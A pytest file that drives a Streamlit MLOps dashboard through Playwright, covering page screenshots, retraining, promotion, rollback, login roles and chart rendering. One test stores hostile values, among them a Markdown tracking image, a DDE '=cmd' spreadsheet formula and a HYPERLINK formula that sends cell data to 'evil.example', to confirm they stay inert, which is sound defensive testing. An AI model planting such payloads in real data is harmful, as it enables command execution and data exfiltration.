"""The dashboard in a real browser: Playwright drives Debian's Chromium against `streamlit run dashboard.py`.

One server on a free loopback port, on a private copy of a small demo database. The test
opens every page (and saves a screenshot of each into docs/screenshots/), retrains,
promotes the candidate and rolls back, checking production and the audit log in the
database after each step (through ``mlops_core.registry``, which retries while the
server or the retrain job holds the file for a moment).

Skipped when /usr/bin/chromium or Playwright is missing, unless the ``CI`` environment
variable is set: in CI a missing browser fails the test.
"""
from __future__ import annotations

import itertools
import os
import re
import time
from pathlib import Path

import pytest
from _dashboard_support import (
    CHROMIUM,
    CHROMIUM_ARGS,
    DEMO_END,
    ROOT,
    StreamlitServer,
    assert_no_traceback,
    copy_db,
    log_in,
    open_as,
    require_browser,
    settle,
    shared_demo,
)

from mlops_core import ControlRoom, Identity

pytestmark = [pytest.mark.browser, pytest.mark.slow]

#: Screenshots go to test-results/screenshots/ (git-ignored); `make screenshots` points this at docs/screenshots/,
#: the README's pictures, so a plain test run leaves the work tree unchanged.
SHOTS = Path(os.environ.get("MLOPS_SCREENSHOTS_DIR") or ROOT / "test-results" / "screenshots")
MODEL = "credit_default"
PAGES = [("", "MLOps control room", "overview"), ("performance", "Performance", "performance"),
         ("drift", "Drift", "drift"), ("data_quality", "Data quality", "data_quality"),
         ("features", "Features", "features"), ("versions", "Versions", "versions"), ("ab_test", "A/B test", "ab_test"),
         ("retrain", "Retrain", "retrain"), ("runs", "Runs & audit", "runs"), ("automation", "Automation", "automation")]
#: Days of labelled traffic the browser's retrain uses: the recent, post-shift rows. Whether the candidate passes
#: the demo's gate depends on the real numbers; the test takes both paths (Promote, or a forced promotion).
RETRAIN_DAYS = 10


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    require_browser()
    folder = tmp_path_factory.mktemp("browser")
    db = copy_db(shared_demo(), folder / "db")
    with StreamlitServer(db, folder / "streamlit.log") as srv:
        yield srv


@pytest.fixture(scope="module")
def browser(server):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield b
        b.close()


@pytest.fixture(scope="module")
def page(browser):
    context = browser.new_context(viewport={"width": 1600, "height": 1700}, color_scheme="light")
    pg = context.new_page()
    pg.set_default_timeout(30_000)
    yield pg
    context.close()


def open_page(pg, server, path: str, title: str, user: str = "pat"):
    open_as(pg, f"{server.url}/{path}", user)
    pg.get_by_role("heading", name=title, exact=True).wait_for()
    settle(pg)
    assert_no_traceback(pg, path or "/")


def test_every_page_opens_and_is_saved_as_screenshot(server, page):
    SHOTS.mkdir(parents=True, exist_ok=True)
    for path, title, name in PAGES:
        open_page(page, server, path, title)
        # the shared sidebar is on every page, also when the page is the first one opened
        try:
            page.locator('[data-testid="stSidebar"]').get_by_text("Window", exact=True).wait_for(timeout=15_000)
        except Exception:
            page.screenshot(path=str(SHOTS / f"failed_{name}.png"), full_page=True)
            pytest.fail(f"no shared sidebar on /{path}; server log: {server.log()[-2000:]}")
        if name in ("overview", "performance", "drift", "versions"):
            page.locator('[data-testid="stPlotlyChart"], [data-testid="stMetric"]').first.wait_for()
        page.screenshot(path=str(SHOTS / f"{name}.png"), full_page=True)
    open_page(page, server, "", "MLOps control room")
    prod = ControlRoom(server.db).model(MODEL).production_version()
    assert page.get_by_text(f"production v{prod}").count() >= 1
    badges = [t for t in page.locator('[data-testid="stMarkdownContainer"] span').all_text_contents()
              if re.fullmatch(r"\w+ (Healthy|Watch|Act)", t.strip())]  # icon ligature, then the word
    assert len(badges) == 2, badges  # a verdict per model


def test_newcomer_walk_shows_none_of_the_reported_defects(server, page, tmp_path):
    """The walk of the first review, repeated: a partial day does not lead the drift ranking, a batch of old data
    is dated by its data and counted once however often it is validated, and no page shows raw internals."""
    import pandas as pd
    from conftest import log_sql

    open_page(page, server, "drift", "Drift")
    page.locator('[data-testid="stSidebar"]').get_by_role("combobox", name="Model").click()
    page.get_by_role("option", name="delivery_time").click()
    settle(page)
    page.get_by_text("Latest full day").first.wait_for()
    assert page.get_by_text("(latest full day)").count() >= 1
    page.screenshot(path=str(SHOTS / "drift_delivery_time.png"), full_page=True)

    # an anomalous batch of data ten days old, ingested and then validated again
    room = ControlRoom(server.db, identity=Identity("pat", "operator"))
    rows = log_sql(server.db, f"SELECT * FROM log_{MODEL} ORDER BY ts LIMIT 300", frame=True)
    day = pd.Timestamp(DEMO_END).normalize() - pd.Timedelta(days=10)
    batch = rows.drop(columns=[c for c in ("batch_id", "date") if c in rows.columns]).rename(columns={"ts": "timestamp"})
    batch["request_id"] = "walk-" + batch["request_id"]
    batch["timestamp"] = day + (batch["timestamp"] - batch["timestamp"].min())
    batch.loc[:30, "income"] = 99_999.0
    path = tmp_path / "old_batch.csv"
    batch.to_csv(path, index=False)
    model = room.model(MODEL)
    model.ingest(path)
    before = len(model.anomalies())
    again = model.validate(path)
    assert again.ingested_as is not None and len(model.anomalies()) == before  # not counted twice
    deadline = time.monotonic() + 120  # the page's cached reads live a minute (an ingest from cron shows up then)
    while True:
        open_page(page, server, "data_quality", "Data quality")
        if page.get_by_text(f"{before} anomalies").count() or time.monotonic() > deadline:
            break
        page.wait_for_timeout(5_000)
    page.get_by_text(f"{before} anomalies").first.wait_for()
    page.screenshot(path=str(SHOTS / "data_quality_after_anomalies.png"), full_page=True)

    for path_, title, _name in PAGES:
        open_page(page, server, path_, title)
        main = page.locator('[data-testid="stMain"]').inner_text()
        for raw in ("__prediction__", "vNone", "( to )", "run_id", "occurred_at", "to_version", "holdout_rows"):
            assert raw not in main, (path_ or "/", raw)
        assert not re.search(r"\bNone\b", main), (path_ or "/", "None")


def test_dark_theme_pages_render(server, browser):
    """With the browser asking for a dark scheme the app and its charts switch to Streamlit's dark theme."""
    context = browser.new_context(viewport={"width": 1440, "height": 1700}, color_scheme="dark")
    pg = context.new_page()
    pg.set_default_timeout(30_000)
    try:
        for path, title, name in (("drift", "Drift", "drift"), ("performance", "Performance", "performance")):
            open_page(pg, server, path, title)
            pg.locator('[data-testid="stPlotlyChart"]').first.wait_for()
            background = pg.evaluate("getComputedStyle(document.querySelector('[data-testid=stApp]')).backgroundColor")
            rgb = [int(x) for x in re.findall(r"\d+", background)[:3]]
            assert sum(rgb) < 150, background  # a dark background
            pg.screenshot(path=str(SHOTS / f"{name}_dark.png"), full_page=True)
    finally:
        context.close()


def _new_retrain_run(server, known: set, timeout: float = 30) -> str:
    """Id of the retrain run the click created (read from the database)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        runs = ControlRoom(server.db).runs(MODEL)
        new = runs[(runs["kind"] == "retrain") & ~runs["id"].isin(known)]
        if len(new):
            return str(new["id"].iloc[0])
        time.sleep(0.5)
    raise AssertionError("pressing Retrain started no run")


def _page_button(page, key: str):
    """The button of the widget with this key (the verdict's next step may carry the same label)."""
    # .first: while a run redraws the page, the element of the previous run can still be there beside the new one
    return page.locator(f".st-key-{key} button").first


def test_retrain_promote_and_roll_back(server, page):
    before = ControlRoom(server.db).model(MODEL).production_version()
    open_page(page, server, "retrain", "Retrain")
    days = page.get_by_label("Days of labelled data", exact=True)
    days.fill(str(RETRAIN_DAYS))
    days.press("Enter")
    settle(page)
    started = set(ControlRoom(server.db).runs(MODEL)["id"])
    _page_button(page, "retrain").click()
    run_id = _new_retrain_run(server, started)
    # live progress while the job runs (unless it is already over), then the result with the gate decision
    progress = page.get_by_text(re.compile(r"Retrain (queued|running)"))
    result = page.get_by_text(re.compile(r"Latest retrain · \w+ · started by pat"))
    page.get_by_text(re.compile(r"Retrain (queued|running)|Latest retrain · \w+ · started by pat")).first.wait_for()
    if progress.count():
        assert _page_button(page, "retrain").is_disabled()  # no second retrain while one runs
        page.screenshot(path=str(SHOTS / "retrain_running.png"), full_page=True)
        # the job outlives the page: after a reload the page finds it in the database and goes on following it
        page.reload()
        log_in(page)  # a page load is a new session
        page.get_by_text(re.compile(r"Retrain (queued|running)|Latest retrain · \w+ · started by pat")).first.wait_for()
    try:
        result.wait_for(timeout=240_000)
    except Exception:
        page.screenshot(path=str(SHOTS / "failed_retrain.png"), full_page=True)
        run = ControlRoom(server.db).run(run_id)
        pytest.fail(f"no retrain result on the page; run {run.status} {run.progress:.0%} {run.message!r} "
                    f"error={run.error!r}; server log: {server.log()[-1500:]}")
    settle(page)
    run = ControlRoom(server.db).run(run_id)
    assert run.status == "succeeded", f"the retrain failed: {run.error}"
    assert_no_traceback(page, "retrain result")
    page.get_by_text("Gate decision").wait_for()
    page.get_by_text(re.compile(r"v\d+ (passed|failed) the gate")).first.wait_for()
    assert not _page_button(page, "retrain").is_disabled()
    page.screenshot(path=str(SHOTS / "retrain_result.png"), full_page=True)

    runs = ControlRoom(server.db).runs(MODEL)
    retrain = runs[runs["id"] == run_id].iloc[0]
    assert (retrain["status"], retrain["actor"]) == ("succeeded", "pat")
    audit = ControlRoom(server.db).audit(MODEL)
    assert "retrain_requested" in set(audit.loc[audit["actor"] == "pat", "action"])
    candidate = max(v.version for v in ControlRoom(server.db).model(MODEL).versions())
    status = {v.version: v.status for v in ControlRoom(server.db).model(MODEL).versions()}[candidate]
    assert ControlRoom(server.db).model(MODEL).production_version() == before  # a person promotes, not the retrain

    if status == "candidate":
        # passed the gate: the Retrain page offers Promote
        _page_button(page, "retrain_promote").click()
    else:
        # failed the gate: no Promote here; the operator picks it on the Versions page and overrides the gate
        assert status == "rejected"
        assert _page_button(page, "retrain_promote").count() == 0
        open_page(page, server, "versions", "Versions")
        page.locator(f".st-key-promote_version_{MODEL}").click()
        page.get_by_role("option", name=re.compile(rf"^v{candidate} ")).click()
        settle(page)
        _page_button(page, "promote").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_text(f"from v{before} to v{candidate}").wait_for()
    if status == "rejected":
        dialog.get_by_text("Promote it anyway").click()
    dialog.get_by_label("Reason (recorded in the audit log)").fill("browser test: fresh data")
    dialog.get_by_role("button", name="Confirm", exact=True).click()
    page.get_by_text(f"v{candidate} is now in production").wait_for()
    settle(page)
    assert ControlRoom(server.db).model(MODEL).production_version() == candidate
    event = ControlRoom(server.db).audit(MODEL).iloc[0]
    assert (event["action"], event["actor"], event["from_version"], event["to_version"], event["reason"]) == (
        "promote", "pat", before, candidate, "browser test: fresh data")

    open_page(page, server, "versions", "Versions")
    assert page.get_by_text(f"production is v{candidate}").count() == 1
    t0 = time.monotonic()
    _page_button(page, "rollback").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_text(f"from v{candidate} to v{before}").wait_for()
    opened = time.monotonic() - t0
    print(f"the Roll back dialog opened {opened:.2f} s after the click")
    assert opened < 5.0, f"the Roll back dialog took {opened:.1f} s to open"
    dialog.get_by_role("button", name="Confirm", exact=True).click()
    page.get_by_text(f"rolled back to v{before}").wait_for()
    settle(page)
    assert ControlRoom(server.db).model(MODEL).production_version() == before
    event = ControlRoom(server.db).audit(MODEL).iloc[0]
    assert (event["action"], event["actor"], event["from_version"], event["to_version"]) == (
        "rollback", "pat", candidate, before)
    assert page.get_by_text(f"production is v{before}").count() == 1
    page.screenshot(path=str(SHOTS / "versions_after_rollback.png"), full_page=True)



def _annotation_boxes(page) -> list[tuple[str, dict]]:
    """Text and bounding box of every action label on the first chart of the page."""
    chart = page.locator('[data-testid="stPlotlyChart"]').first
    chart.wait_for()
    page.wait_for_timeout(500)
    out = []
    for a in chart.locator("g.annotation").all():
        text = (a.text_content() or "") if a.is_visible() else ""
        box = a.bounding_box()
        if box and text.strip() and any(w in text for w in ("promoted", "rolled back", "new v", "registered")):
            out.append((text.strip(), box))
    return out


def _assert_apart(boxes) -> None:
    for i, (ta, a) in enumerate(boxes):
        for tb, b in boxes[i + 1:]:
            overlap_x = min(a["x"] + a["width"], b["x"] + b["width"]) - max(a["x"], b["x"])
            overlap_y = min(a["y"] + a["height"], b["y"] + b["height"]) - max(a["y"], b["y"])
            assert overlap_x <= 1 or overlap_y <= 1, f"labels overlap: {ta!r} and {tb!r}"


def _context(browser):
    context = browser.new_context(viewport={"width": 1440, "height": 1400}, color_scheme="light")
    pg = context.new_page()
    pg.set_default_timeout(30_000)
    return context, pg


def test_login_roles_and_log_out(server, browser):
    """Nothing but the login before signing in; a wrong password is refused; a viewer has no action controls and
    an operator has them; logging out returns to the login."""
    context, pg = _context(browser)
    try:
        pg.goto(f"{server.url}/versions")
        pg.get_by_role("heading", name="Log in").wait_for()
        settle(pg)
        assert pg.locator('[data-testid="stSidebar"]').get_by_role("combobox", name="Model").count() == 0
        assert pg.get_by_role("heading", name="Versions", exact=True).count() == 0
        log_form = pg.locator('[data-testid="stForm"]')
        log_form.get_by_label("User name", exact=True).fill("pat")
        log_form.get_by_label("Password", exact=True).fill("not the password")
        log_form.get_by_role("button", name="Log in").click()
        pg.get_by_text("Unknown user name or wrong password").wait_for()
        assert pg.get_by_role("heading", name="Versions", exact=True).count() == 0

        log_in(pg, "vic")
        pg.get_by_role("heading", name="Versions", exact=True).wait_for()
        pg.get_by_text("which reads only").first.wait_for()
        assert pg.get_by_role("button", name="Promote", exact=True).count() == 0
        assert pg.get_by_role("button", name="Roll back", exact=True).count() == 0
        pg.locator('[data-testid="stSidebarNav"]').locator('a[href$="/retrain"]').click()
        pg.get_by_role("heading", name="Retrain", exact=True).wait_for()
        settle(pg)
        assert pg.get_by_role("button", name="Retrain", exact=True).count() == 0
        pg.screenshot(path=str(SHOTS / "viewer_retrain.png"), full_page=True)

        pg.locator('[data-testid="stSidebar"]').get_by_role("button", name=re.compile("vic · viewer")).click()
        pg.get_by_role("button", name="Log out").click()
        pg.get_by_role("heading", name="Log in").wait_for()
        assert pg.get_by_role("heading", name="Retrain", exact=True).count() == 0

        log_in(pg, "pat")
        pg.get_by_role("heading", name="Retrain", exact=True).wait_for()
        pg.get_by_role("button", name="Retrain", exact=True).wait_for()
        assert_no_traceback(pg, "retrain as operator")
    finally:
        context.close()


def test_hostile_stored_text_is_inert(tmp_path, browser):
    """An actor name and an error message holding a Markdown image are shown as typed (no image, no request); a
    reason and an actor that are spreadsheet formulas are neutralized in the CSV download."""
    from mlops_core.store import Store
    from mlops_core.store import runs as runstore

    db = copy_db(shared_demo(), tmp_path / "db")
    hostile = "![t](http://127.0.0.1:9/pixel.png)"
    with Store(db).transaction() as con:
        run_id = runstore.insert_run(con, model=MODEL, kind="retrain", actor=hostile, status="failed",
                                     message=f"failed: {hostile} :red[alarm]")
        runstore.update_run(con, run_id, error=f"boom {hostile}", progress=1.0)
        runstore.insert_audit(con, actor="=cmd|' /C calc'!A0", action="promote", model=MODEL,
                              reason='=HYPERLINK("http://evil.example/?"&A1,"Click")', at=DEMO_END)
    with StreamlitServer(db, tmp_path / "streamlit.log") as srv:
        context, pg = _context(browser)
        requests = []
        pg.on("request", lambda r: requests.append(r.url))
        try:
            open_as(pg, f"{srv.url}/retrain", "vic")
            pg.get_by_text("Latest retrain").first.wait_for()
            settle(pg)
            main = pg.locator('[data-testid="stMain"]')
            assert main.locator("img").count() == 0
            assert hostile in main.inner_text()
            assert not [u for u in requests if "pixel.png" in u]

            # the audit download is safe to open in a spreadsheet
            pg.locator('[data-testid="stSidebarNav"]').locator('a[href$="/runs"]').click()
            pg.get_by_role("heading", name="Runs & audit", exact=True).wait_for()
            pg.get_by_role("tab", name="Audit log").click()
            with pg.expect_download() as download:
                pg.get_by_role("button", name="Download audit log as CSV").click()
            text = Path(download.value.path()).read_text()
            assert "'=HYPERLINK(" in text and "'=cmd|" in text
            assert ',=' not in text and '"=' not in text
        finally:
            context.close()


# --- what only a browser shows: the drawn band and the action labels ------------------------------------------


@pytest.fixture(scope="module")
def gappy_server(tmp_path_factory):
    """A model with 80 labelled predictions an hour in office hours only (nights are gaps) over four days, and
    a new version, a promotion and a rollback minutes apart, as a busy afternoon leaves them."""
    import numpy as np
    import pandas as pd
    from _dashboard_support import add_accounts
    from _monitoring_support import T0, credit_features, log_rows, register_credit, write

    from mlops_core.store import Store
    from mlops_core.store import runs as runstore

    require_browser()
    folder = tmp_path_factory.mktemp("gappy")
    db = folder / "gappy.duckdb"
    info = register_credit(db)
    parts, labels = [], []
    rng = np.random.default_rng(3)
    for d in range(4):
        for h in range(8, 18):
            start = T0 + pd.Timedelta(days=d, hours=h)
            feats = credit_features(80, seed=d * 100 + h)
            score = rng.random(80)
            pred = np.where(score > 0.5, "1", "0")
            log = log_rows(feats, start=start, step=pd.Timedelta(seconds=40), prediction=pred, score=score,
                           prefix=f"g{d}-{h}-")
            truth = np.where(rng.random(80) < 0.8, pred, np.where(pred == "1", "0", "1"))
            parts.append(log)
            labels.append(pd.DataFrame({"request_id": log["request_id"], "label": truth}))
    write(db, info, pd.concat(parts, ignore_index=True), pd.concat(labels, ignore_index=True))
    busy = T0 + pd.Timedelta(days=2, hours=12)
    with Store(db).transaction() as con:
        for minutes, action, version in ((0, "register_version", 2), (4, "promote", 2), (9, "rollback", 1)):
            runstore.insert_audit(con, actor="pat", action=action, model=info.name, to_version=version,
                                  reason="browser test", at=pd.Timestamp(busy + pd.Timedelta(minutes=minutes)).to_pydatetime())
    add_accounts(ControlRoom(db, identity=Identity("test-setup", "admin")))
    with StreamlitServer(db, folder / "streamlit.log") as srv:
        yield srv


def test_the_hour_view_band_never_bridges_a_gap_and_action_labels_do_not_overlap(gappy_server, browser):
    """The band of the hour view is drawn only over runs of consecutive hours (no wedge across a night), and the
    labels of a new version, a promotion and a rollback minutes apart read as one label."""
    context = browser.new_context(viewport={"width": 1600, "height": 1300}, color_scheme="light")
    pg = context.new_page()
    pg.set_default_timeout(30_000)
    try:
        open_as(pg, f"{gappy_server.url}/performance", "pat")
        pg.get_by_role("heading", name="Performance", exact=True).wait_for()
        settle(pg)
        pg.locator('[data-testid="stSidebar"]').get_by_text("hour", exact=True).click()
        settle(pg)
        assert_no_traceback(pg, "performance, hour view")
        pg.locator('[data-testid="stPlotlyChart"]').first.wait_for()
        pg.wait_for_timeout(800)
        geometry = pg.evaluate("""() => {
            const gd = document.querySelector('[data-testid="stPlotlyChart"] .js-plotly-plot');
            const xa = gd._fullLayout.xaxis;
            const hour = xa.d2p('2026-03-02 01:00') - xa.d2p('2026-03-02 00:00');
            const fills = [...gd.querySelectorAll('path.js-fill')].map(p => p.getAttribute('d') || '');
            return {hour, fills};
        }""")
        hour = geometry["hour"]
        assert hour > 2, geometry
        fills = [d for d in geometry["fills"] if d]
        assert fills, "no band drawn"
        for d in fills:
            for sub in [x for x in d.split("M") if x.strip()]:
                xs = [float(v.split(",")[0]) for v in sub.replace("Z", "").split("L") if "," in v]
                steps = [abs(b - a) for a, b in itertools.pairwise(xs)]
                assert max(steps, default=0) <= 1.5 * hour, f"a band edge spans {max(steps) / hour:.1f} hours"
        boxes = _annotation_boxes(pg)
        assert [t for t, _ in boxes] and any("rolled back" in t for t, _ in boxes), boxes
        _assert_apart(boxes)
        pg.screenshot(path=str(SHOTS / "performance_hour.png"), full_page=True)
    finally:
        context.close()
